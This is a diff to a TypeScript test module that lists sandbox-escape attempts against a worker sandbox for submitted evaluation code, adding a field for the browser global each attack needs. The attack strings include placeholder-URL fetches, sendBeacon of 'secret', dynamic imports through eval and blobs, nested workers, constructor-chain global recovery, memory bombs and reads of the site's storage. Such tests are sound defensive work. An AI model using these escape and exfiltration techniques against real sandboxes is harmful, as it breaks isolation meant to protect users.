@@ -22,6 +22,12 @@
  * An escaped or frame attack is the body of an async function: it returns a
  * string that starts with `reached` when the attack worked, and returns
  * anything else or throws when it did not.
+ *
+ * `needs` names the worker global an attack uses where a browser engine may
+ * not have it (a path from the global: `navigator.sendBeacon`). A harness for
+ * another engine states, per attack, when its engine lacks it
+ * (`tests/browsers/engineGaps.ts`), and checks that statement in a worker of
+ * the sandbox itself.
  */
 
 /** What a 2-game match of the honest evaluation (always 0) gives: the built-in side wins both, in 6 and 5 moves. */
@@ -41,6 +47,8 @@ export interface CodeAttack {
   /** The reader's code (TypeScript: it must pass the checker). */
   readonly code: string;
   readonly expect: CodeObservation;
+  /** The worker global the attack uses, where an engine may lack it (see the module's doc). */
+  readonly needs?: string;
 }
 
 export interface ScopeAttack {
@@ -48,6 +56,8 @@ export interface ScopeAttack {
   readonly title: string;
   /** The body of an async function (see the module's doc). */
   readonly body: string;
+  /** The worker global the attack uses, where an engine may lack it (see the module's doc). */
+  readonly needs?: string;
 }
 
 /** Code that says 0 everywhere after trying `body` at its top level, where an exception is swallowed. */
@@ -91,12 +101,12 @@ export const CODE_ATTACKS: readonly CodeAttack[] = [
     expect: honest,
   },
   { id: 'fetch', title: 'plain fetch', code: tries("g.fetch('%URL%');"), expect: honest },
-  { id: 'xhr', title: 'XMLHttpRequest', code: tries("const x = new g.XMLHttpRequest();\nx.open('GET', '%URL%');\nx.send();"), expect: honest },
-  { id: 'websocket', title: 'WebSocket', code: tries("new g.WebSocket('%WS%');"), expect: honest },
-  { id: 'eventsource', title: 'EventSource', code: tries("new g.EventSource('%URL%');"), expect: honest },
-  { id: 'websocketstream', title: 'WebSocketStream', code: tries("new g.WebSocketStream('%WS%');"), expect: honest },
-  { id: 'webtransport', title: 'WebTransport', code: tries("new g.WebTransport('%HTTPS%');"), expect: honest },
-  { id: 'beacon', title: 'navigator.sendBeacon', code: tries("g.navigator.sendBeacon('%URL%', 'secret');"), expect: honest },
+  { id: 'xhr', needs: 'XMLHttpRequest', title: 'XMLHttpRequest', code: tries("const x = new g.XMLHttpRequest();\nx.open('GET', '%URL%');\nx.send();"), expect: honest },
+  { id: 'websocket', needs: 'WebSocket', title: 'WebSocket', code: tries("new g.WebSocket('%WS%');"), expect: honest },
+  { id: 'eventsource', needs: 'EventSource', title: 'EventSource', code: tries("new g.EventSource('%URL%');"), expect: honest },
+  { id: 'websocketstream', needs: 'WebSocketStream', title: 'WebSocketStream', code: tries("new g.WebSocketStream('%WS%');"), expect: honest },
+  { id: 'webtransport', needs: 'WebTransport', title: 'WebTransport', code: tries("new g.WebTransport('%HTTPS%');"), expect: honest },
+  { id: 'beacon', needs: 'navigator.sendBeacon', title: 'navigator.sendBeacon', code: tries("g.navigator.sendBeacon('%URL%', 'secret');"), expect: honest },
   { id: 'import-eval', title: 'dynamic import() through eval', code: tries("(0, eval)('imp' + 'ort(\"%URL%\")');"), expect: honest },
   {
     id: 'direct-eval',
@@ -117,24 +127,24 @@ export const CODE_ATTACKS: readonly CodeAttack[] = [
     code: `const load = "import('%URL%')";\n${evaluation('  return 0;')}`,
     expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation threw an exception while loading, SyntaxError: Possible import expression rejected/ },
   },
-  { id: 'importscripts', title: 'importScripts', code: tries("g.importScripts('%URL%');"), expect: honest },
-  { id: 'fontface', title: 'new FontFace(…).load()', code: tries("new g.FontFace('x', 'url(%URL%)').load();"), expect: honest },
-  { id: 'indexeddb', title: 'indexedDB', code: tries("g.indexedDB.open('mn-pwned');"), expect: honest },
-  { id: 'caches', title: 'Cache Storage', code: tries("g.caches.open('mn-pwned');"), expect: honest },
-  { id: 'nested-worker', title: 'a nested Worker', code: tries("new g.Worker(g.URL.createObjectURL(new g.Blob([\"fetch('%URL%')\"])));"), expect: honest },
-  { id: 'nested-worker-url', title: 'a nested Worker from a URL', code: tries("new g.Worker('%URL%');"), expect: honest },
+  { id: 'importscripts', needs: 'importScripts', title: 'importScripts', code: tries("g.importScripts('%URL%');"), expect: honest },
+  { id: 'fontface', needs: 'FontFace', title: 'new FontFace(…).load()', code: tries("new g.FontFace('x', 'url(%URL%)').load();"), expect: honest },
+  { id: 'indexeddb', needs: 'indexedDB', title: 'indexedDB', code: tries("g.indexedDB.open('mn-pwned');"), expect: honest },
+  { id: 'caches', needs: 'caches', title: 'Cache Storage', code: tries("g.caches.open('mn-pwned');"), expect: honest },
+  { id: 'nested-worker', needs: 'Worker', title: 'a nested Worker', code: tries("new g.Worker(g.URL.createObjectURL(new g.Blob([\"fetch('%URL%')\"])));"), expect: honest },
+  { id: 'nested-worker-url', needs: 'Worker', title: 'a nested Worker from a URL', code: tries("new g.Worker('%URL%');"), expect: honest },
   {
     id: 'post-message',
     title: 'postMessage to the page, the frame or anyone',
     code: tries("g.postMessage('pwned');\ng.self.postMessage('pwned');\ng.parent.postMessage('pwned', '*');"),
     expect: honest,
   },
-  { id: 'broadcast', title: 'BroadcastChannel', code: tries("new g.BroadcastChannel('mn-secret').postMessage('pwned');"), expect: honest },
+  { id: 'broadcast', needs: 'BroadcastChannel', title: 'BroadcastChannel', code: tries("new g.BroadcastChannel('mn-secret').postMessage('pwned');"), expect: honest },
   { id: 'function-this', title: "Function('return this')()", code: tries("Function('return this')().fetch('%URL%');"), expect: honest },
   { id: 'global-constructor', title: 'globalThis.constructor', code: tries("g.constructor.constructor('return fetch')()('%URL%');"), expect: honest },
   { id: 'eval-global', title: 'indirect eval of the global scope', code: tries("(0, eval)('self').fetch('%URL%');"), expect: honest },
-  { id: 'atomics', title: 'Atomics.wait on shared memory', code: tries('Atomics.wait(new Int32Array(new g.SharedArrayBuffer(4)), 0, 0, 1e9);'), expect: honest },
-  { id: 'structured-clone', title: 'a structuredClone bomb', code: tries('g.structuredClone(new Array(1e7).fill({ a: [1, 2, 3] }));'), expect: honest },
+  { id: 'atomics', needs: 'SharedArrayBuffer', title: 'Atomics.wait on shared memory', code: tries('Atomics.wait(new Int32Array(new g.SharedArrayBuffer(4)), 0, 0, 1e9);'), expect: honest },
+  { id: 'structured-clone', needs: 'structuredClone', title: 'a structuredClone bomb', code: tries('g.structuredClone(new Array(1e6).fill({ a: [1, 2, 3] }));'), expect: honest },
   { id: 'timer', title: 'a setTimeout left running after the job', code: tries("g.setTimeout(() => g.fetch('%URL%'), 50);\ng.setInterval(() => g.fetch('%URL%'), 50);"), expect: honest },
   {
     id: 'math-max',
@@ -163,7 +173,9 @@ export const CODE_ATTACKS: readonly CodeAttack[] = [
   {
     id: 'huge-result',
     title: 'a huge returned object',
-    code: evaluation('  return new Array(10_000_000).fill({ x: 1 }) as any;'),
+    // A million entries, far past any message cap (as in structured-clone): ten
+    // million take Firefox 3 s to build, past the 2 s limit, where Chromium takes 50 ms.
+    code: evaluation('  return new Array(1_000_000).fill({ x: 1 }) as any;'),
     expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation returned an array, an array, not a number/ },
   },
   {
@@ -205,52 +217,52 @@ export const ESCAPED_ATTACKS: readonly ScopeAttack[] = [
     body: reach("Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, '%URL%').then((r) => r.status)"),
   },
   {
-    id: 'escaped-xhr',
+    id: 'escaped-xhr', needs: 'XMLHttpRequest',
     title: 'XMLHttpRequest',
     body: "const x = new XMLHttpRequest();\nx.open('GET', '%URL%');\nx.send();\nreturn await new Promise((ok, no) => { x.onload = () => ok('reached: ' + x.status); x.onerror = () => no(new Error('error event')); });",
   },
   {
-    id: 'escaped-websocket',
+    id: 'escaped-websocket', needs: 'WebSocket',
     title: 'WebSocket',
     body: "const w = new WebSocket('%WS%');\nreturn await new Promise((ok, no) => { w.onopen = () => ok('reached: open'); w.onerror = () => no(new Error('error event')); });",
   },
   {
-    id: 'escaped-eventsource',
+    id: 'escaped-eventsource', needs: 'EventSource',
     title: 'EventSource',
     body: "const s = new EventSource('%URL%');\nreturn await new Promise((ok, no) => { s.onopen = () => ok('reached: open'); s.onerror = () => no(new Error('error event')); });",
   },
   {
-    id: 'escaped-websocketstream',
+    id: 'escaped-websocketstream', needs: 'WebSocketStream',
     title: 'WebSocketStream',
     body: "if (typeof WebSocketStream === 'undefined') return 'absent';\nconst w = new WebSocketStream('%WS%');\nreturn 'reached: ' + String(await w.opened);",
   },
-  { id: 'escaped-webtransport', title: 'WebTransport', body: "if (typeof WebTransport === 'undefined') return 'absent';\nconst t = new WebTransport('%HTTPS%');\nreturn 'reached: ' + String(await t.ready);" },
+  { id: 'escaped-webtransport', needs: 'WebTransport', title: 'WebTransport', body: "if (typeof WebTransport === 'undefined') return 'absent';\nconst t = new WebTransport('%HTTPS%');\nreturn 'reached: ' + String(await t.ready);" },
   { id: 'escaped-import', title: 'dynamic import()', body: reach("import('%URL%')") },
   { id: 'escaped-import-eval', title: 'dynamic import() through eval', body: reach("eval('import(\"%URL%\")')") },
   { id: 'escaped-import-function', title: 'dynamic import() through new Function', body: reach("new Function('return import(\"%URL%\")')()") },
   { id: 'escaped-import-data', title: 'dynamic import() of a data: URL', body: reach("import('data:text/javascript,fetch(\"%URL%\")')") },
   { id: 'escaped-import-blob', title: 'dynamic import() of a blob the code made', body: reach("import(URL.createObjectURL(new Blob(['fetch(\"%URL%\")'], { type: 'text/javascript' })))") },
-  { id: 'escaped-importscripts', title: 'importScripts', body: "importScripts('%URL%');\nreturn 'reached';" },
-  { id: 'escaped-importscripts-blob', title: 'importScripts of a blob', body: "importScripts(URL.createObjectURL(new Blob(['fetch(\"%URL%\")'])));\nreturn 'reached';" },
-  { id: 'escaped-fontface', title: 'new FontFace(…).load()', body: reach("new FontFace('x', 'url(%URL%)').load()") },
+  { id: 'escaped-importscripts', needs: 'importScripts', title: 'importScripts', body: "importScripts('%URL%');\nreturn 'reached';" },
+  { id: 'escaped-importscripts-blob', needs: 'importScripts', title: 'importScripts of a blob', body: "importScripts(URL.createObjectURL(new Blob(['fetch(\"%URL%\")'])));\nreturn 'reached';" },
+  { id: 'escaped-fontface', needs: 'FontFace', title: 'new FontFace(…).load()', body: reach("new FontFace('x', 'url(%URL%)').load()") },
   {
-    id: 'escaped-indexeddb',
+    id: 'escaped-indexeddb', needs: 'indexedDB',
     title: "indexedDB: the site's database",
     body: "const db = await new Promise((ok, no) => { const r = indexedDB.open('mn-secret'); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); });\nreturn db.objectStoreNames.contains('secret') ? 'reached: the site database' : 'an empty database of its own';",
   },
-  { id: 'escaped-caches', title: "Cache Storage: the site's caches", body: "const keys = await caches.keys();\nreturn keys.includes('mn-secret') ? 'reached: the site cache' : 'caches of its own: ' + keys.length;" },
+  { id: 'escaped-caches', needs: 'caches', title: "Cache Storage: the site's caches", body: "const keys = await caches.keys();\nreturn keys.includes('mn-secret') ? 'reached: the site cache' : 'caches of its own: ' + keys.length;" },
   {
-    id: 'escaped-nested-worker',
+    id: 'escaped-nested-worker', needs: 'Worker',
     title: 'a nested Worker from a blob, which fetches',
     body: "const w = new Worker(URL.createObjectURL(new Blob([\"fetch('%URL%').then(() => postMessage('reached'), (e) => postMessage('blocked: ' + e))\"])));\nreturn await new Promise((ok) => { w.onmessage = (e) => ok(String(e.data)); w.onerror = (e) => ok('blocked: ' + e.message); });",
   },
   {
-    id: 'escaped-nested-worker-url',
+    id: 'escaped-nested-worker-url', needs: 'Worker',
     title: 'a nested Worker from a URL',
     body: "const w = new Worker('%URL%');\nreturn await new Promise((ok) => { w.onmessage = () => ok('reached'); w.onerror = () => ok('blocked: error event'); });",
   },
-  { id: 'escaped-beacon', title: 'navigator.sendBeacon', body: "return navigator.sendBeacon ? 'reached: ' + navigator.sendBeacon('%URL%', 'x') : 'absent';" },
-  { id: 'escaped-broadcast', title: "BroadcastChannel to the site's pages", body: "new BroadcastChannel('mn-secret').postMessage('pwned');\nreturn 'sent (the page must hear nothing)';" },
+  { id: 'escaped-beacon', needs: 'navigator.sendBeacon', title: 'navigator.sendBeacon', body: "return navigator.sendBeacon ? 'reached: ' + navigator.sendBeacon('%URL%', 'x') : 'absent';" },
+  { id: 'escaped-broadcast', needs: 'BroadcastChannel', title: "BroadcastChannel to the site's pages", body: "new BroadcastChannel('mn-secret').postMessage('pwned');\nreturn 'sent (the page must hear nothing)';" },
   { id: 'escaped-origin', title: 'the origin is opaque', body: "return self.origin === 'null' ? 'opaque' : 'reached: ' + self.origin;" },
 ];
 
